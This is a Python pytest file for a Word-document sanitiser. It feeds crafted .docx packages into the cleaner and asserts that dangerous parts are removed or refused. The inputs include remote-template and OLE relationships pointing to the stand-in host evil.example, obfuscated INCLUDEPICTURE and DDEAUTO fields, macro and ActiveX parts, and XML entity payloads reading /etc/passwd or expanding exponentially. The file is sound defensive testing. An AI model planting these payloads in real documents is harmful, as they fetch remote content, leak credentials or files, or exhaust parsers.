"""A Word template is written anew from what is known: nothing in it runs, and nothing is loaded from elsewhere."""

import io
import re
import zipfile
from pathlib import Path

import docx
import pytest
from docx.document import Document as WordDocument

from inquery.errors import BadRequest
from inquery.reports.package import cleaned

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OFFICE = "http://schemas.microsoft.com/office"
RELS = "word/_rels/document.xml.rels"
EVIL = "evil.example"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def plain() -> bytes:
    made = io.BytesIO()
    document: WordDocument = docx.Document()
    document.add_heading("Title", 1)
    document.add_paragraph("{{value: total}}")
    document.add_table(1, 2).cell(0, 0).text = "cell"
    document.save(made)
    return made.getvalue()


def parts(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        return {name: package.read(name) for name in package.namelist()}


def packed(given: dict[str, bytes]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in given.items():
            package.writestr(name, content)
    return made.getvalue()


def with_relation(relation: str, part: str = RELS, more: dict[str, bytes] | None = None, settings: str = "") -> bytes:
    given = parts(plain())
    given[part] = given[part].replace(b"</Relationships>", relation.encode() + b"</Relationships>")
    if settings:
        name = "word/settings.xml"
        given[name] = re.sub(rb"(<w:settings\b[^>]*>)", rb"\1" + settings.encode(), given[name], count=1)
    return packed(given | (more or {}))


TEMPLATE = f"{REL}/attachedTemplate"
SPELLINGS = [
    f'<Relationship Id="x1" Type="{TEMPLATE}" Target="http://{EVIL}/t.dotm" TargetMode="External"/>',
    f"<Relationship Id='x1' Type='{TEMPLATE}' Target='http://{EVIL}/t.dotm' TargetMode='External'/>",
    f'<Relationship Id="x1" Type="{TEMPLATE}" Target="http://{EVIL}/t.dotm" TargetMode="External"></Relationship>',
    f'<Relationship Id="x1" Type="{TEMPLATE}" Target="http://{EVIL}/t.dotm" TargetMode="Externa&#108;"/>',
    f'<Relationship Id="x1" Type="{TEMPLATE}" Target="http://{EVIL}/t.dotm" TargetMode=" external "/>',
    f'<Relationship Id="x1" Type="{TEMPLATE}" Target="http://{EVIL}/t.dotm"/>',
    f'<r:Relationship xmlns:r="http://schemas.openxmlformats.org/package/2006/relationships" Id="x1" Type="{TEMPLATE}" Target="http://{EVIL}/t.dotm" TargetMode="External"/>',
    f'<Relationship\n Id="x1"\tType="{TEMPLATE}"\n Target="http://{EVIL}/t.dotm"\n TargetMode="External"\n/>',
    f'<Relationship Id="x1" Type="{REL}/image" Target="http://{EVIL}/p.png" TargetMode="External"/>',
    f'<Relationship Id="x1" Type="{REL}/image" Target="\\\\{EVIL}\\share\\p.png" TargetMode="External"/>',
    f'<Relationship Id="x1" Type="{REL}/oleObject" Target="http://{EVIL}/o" TargetMode="External"/>',
    f'<Relationship Id="x1" Type="{REL}/subDocument" Target="http://{EVIL}/d.docx" TargetMode="External"/>',
    f'<Relationship Id="x1" Type="{REL}/aFChunk" Target="http://{EVIL}/c.html" TargetMode="External"/>',
    f'<Relationship Id="x1" Type="{REL}/frame" Target="http://{EVIL}/f.html" TargetMode="External"/>',
    f'<Relationship Id="x1" Type="{REL}/mailMergeSource" Target="http://{EVIL}/m" TargetMode="External"/>',
    f'<Relationship Id="x1" Type="http://x/{TEMPLATE}" Target="http://{EVIL}/t.dotm" TargetMode="External"/>',
    f'<Relationship Id="x1" Type="{REL}/hyperlink" Target="file://{EVIL}/share" TargetMode="External"/>',
    f'<Relationship Id="x1" Type="{REL}/hyperlink" Target="javascript:{EVIL}" TargetMode="External"/>',
]


@pytest.mark.parametrize("relation", SPELLINGS)
@pytest.mark.parametrize("part", [RELS, "_rels/.rels"])
def test_a_relation_that_reaches_out_goes_however_it_is_written(relation: str, part: str) -> None:
    made, problems = cleaned(with_relation(relation, part))
    assert [name for name, content in parts(made).items() if EVIL.encode() in content] == []
    assert [problem.code for problem in problems] == ["external_content"]
    assert docx.Document(io.BytesIO(made)).paragraphs[1].text == "{{value: total}}"


def test_what_wanted_a_relation_goes_with_it() -> None:
    """Word calls a document broken that names a relationship it does not have."""
    wants = f'<w:attachedTemplate {W} xmlns:r="{REL}" r:id="x1"/>'
    given = parts(with_relation("", settings=wants))
    given["word/_rels/settings.xml.rels"] = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + SPELLINGS[1].encode()
        + b"</Relationships>"
    )
    made, problems = cleaned(packed(given))
    assert b"attachedTemplate" not in parts(made)["word/settings.xml"]
    assert "word/_rels/settings.xml.rels" not in parts(made)
    assert len(problems) == 1


@pytest.mark.parametrize("target", ["https://example.org/a?b=1&amp;c=2", "mailto:a@example.org"])
def test_links_that_a_person_follows_stay(target: str) -> None:
    relation = f'<Relationship Id="x1" Type="{REL}/hyperlink" Target="{target}" TargetMode="External"/>'
    made, problems = cleaned(with_relation(relation))
    assert target.encode() in parts(made)[RELS]
    assert problems == []


@pytest.mark.parametrize(
    ("kind", "name"),
    [
        (f"{OFFICE}/2006/relationships/vbaProject", "vbaProject.bin"),
        (f"{REL}/control", "activeX/activeX1.xml"),
        (f"{REL}/oleObject", "embeddings/oleObject1.bin"),
        (f"{REL}/package", "embeddings/book.xlsx"),
        (f"{REL}/aFChunk", "chunk.htm"),
        (f"{OFFICE}/2007/relationships/ui/extensibility", "customUI/customUI.xml"),
        (f"{REL}/image", "media/x.svg"),
        (f"{REL}/image", "media/x.exe"),
        (f"{REL}/unheardOf", "thing.xml"),
    ],
)
def test_parts_that_nobody_knows_are_not_copied(kind: str, name: str) -> None:
    relation = f'<Relationship Id="x1" Type="{kind}" Target="{name}"/>'
    given = parts(with_relation(relation, more={f"word/{name}": b"<x/>", "word/stray.bin": b"stray"}))
    types = "".join(
        f'<Default Extension="{ending}" ContentType="{of}"/>'
        for ending, of in {"svg": "image/svg+xml", "exe": "application/x-msdownload", "bin": "application/vnd.ms-office.vbaProject", "htm": "text/html"}.items()
    )  # fmt: skip
    given["[Content_Types].xml"] = given["[Content_Types].xml"].replace(b"</Types>", types.encode() + b"</Types>")
    made, _ = cleaned(packed(given))
    assert not {f"word/{name}", "word/stray.bin"} & set(parts(made))
    assert b"x1" not in parts(made)[RELS]
    docx.Document(io.BytesIO(made))


def with_body(body: str) -> bytes:
    given = parts(plain())
    given["word/document.xml"] = given["word/document.xml"].replace(b"<w:body>", b"<w:body>" + body.encode(), 1)
    return packed(given)


def run(inner: str) -> str:
    return f"<w:r>{inner}</w:r>"


def char(kind: str) -> str:
    return run(f'<w:fldChar w:fldCharType="{kind}"/>')


def code(text: str) -> str:
    return run(f"<w:instrText>{text}</w:instrText>")


FETCHING = [
    char("begin") + code(f' INCLUDEPICTURE "http://{EVIL}/p.png" \\d ') + char("separate") + run("<w:t>old</w:t>") + char("end"),
    char("begin") + code(" INCLUDE") + code(f'PICTURE "http://{EVIL}/p.png"') + char("end"),
    char("begin") + code(f" includetext http://{EVIL}/x ") + char("end"),
    char("begin") + code(f" DDEAUTO c:\\\\x {EVIL} ") + char("end"),
    char("begin") + code(f" LINK Excel.Sheet http://{EVIL}/b.xlsx ") + char("end"),
    f'<w:fldSimple w:instr="INCLUDEPICTURE &quot;http://{EVIL}/p.png&quot;"><w:r><w:t>old</w:t></w:r></w:fldSimple>',
    # The word is what another field gives.
    char("begin") + char("begin") + code(" QUOTE INCLUDEPICTURE ") + char("separate") + run("<w:t>INCLUDEPICTURE</w:t>") + char("end") + code(f' "http://{EVIL}/p.png"') + char("end"),
    # In a field whose own word is harmless.
    char("begin") + code(" IF 1 = 1 ") + char("begin") + code(f" INCLUDEPICTURE http://{EVIL}/p.png ") + char("end") + char("end"),
    char("begin") + code(f" INCLUDEPICTURE http://{EVIL}/never-ended "),
    f'<w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="http://{EVIL}/p.png"/></v:shape></w:pict>',
]  # fmt: skip


@pytest.mark.parametrize("body", FETCHING)
def test_fields_and_pictures_that_fetch_are_stilled(body: str) -> None:
    inside = body if body.startswith("<w:pict") is False else run(body)
    made, problems = cleaned(with_body(f"<w:p>{inside}</w:p>"))
    assert EVIL.encode() not in parts(made)["word/document.xml"]
    assert {problem.code for problem in problems} == {"external_content"}


@pytest.mark.parametrize(
    "text",
    [" PAGE ", ' TOC \\o "1-3" \\h ', ' HYPERLINK "https://example.org/link/rd" ', " = 1 + 2 ", ' DATE \\@ "d" '],
)
def test_other_fields_stay_as_they_are(text: str) -> None:
    made, problems = cleaned(with_body(f"<w:p>{char('begin')}{code(text)}{char('end')}</w:p>"))
    assert text.strip().encode() in parts(made)["word/document.xml"]
    assert problems == []


def test_macros_are_told_once_and_the_document_is_a_plain_one() -> None:
    relation = f'<Relationship Id="x1" Type="{OFFICE}/2006/relationships/vbaProject" Target="vbaProject.bin"/>'
    given = parts(with_relation(relation, more={"word/vbaProject.bin": b"macro"}))
    given["[Content_Types].xml"] = given["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    made, problems = cleaned(packed(given))
    assert [problem.code for problem in problems] == ["macros"]
    assert b"macroEnabled" not in parts(made)["[Content_Types].xml"]


@pytest.mark.parametrize(
    "document",
    [
        b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document xmlns:w="x">&e;</w:document>',
        b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><w:document xmlns:w="x">&b;</w:document>',
        b"not xml",
        b"",
    ],
)
def test_a_part_with_entities_or_without_sense_is_refused(document: bytes) -> None:
    with pytest.raises(BadRequest):
        cleaned(packed(parts(plain()) | {"word/document.xml": document}))


def test_two_parts_of_one_name_are_refused() -> None:
    made = io.BytesIO(packed(parts(plain())))
    with zipfile.ZipFile(made, "a") as package:
        package.writestr("word/Document.xml", b"<x/>")
    with pytest.raises(BadRequest):
        cleaned(made.getvalue())


def test_a_document_of_our_own_keeps_all_it_has() -> None:
    for content in (plain(), *(path.read_bytes() for path in Path("src/inquery/reports/library").glob("*.docx"))):
        made, problems = cleaned(content)
        before, after = docx.Document(io.BytesIO(content)), docx.Document(io.BytesIO(made))
        assert problems == []
        assert [p.text for p in before.paragraphs] == [p.text for p in after.paragraphs]
        assert {name for name in parts(content) if not name.endswith("/")} == set(parts(made))
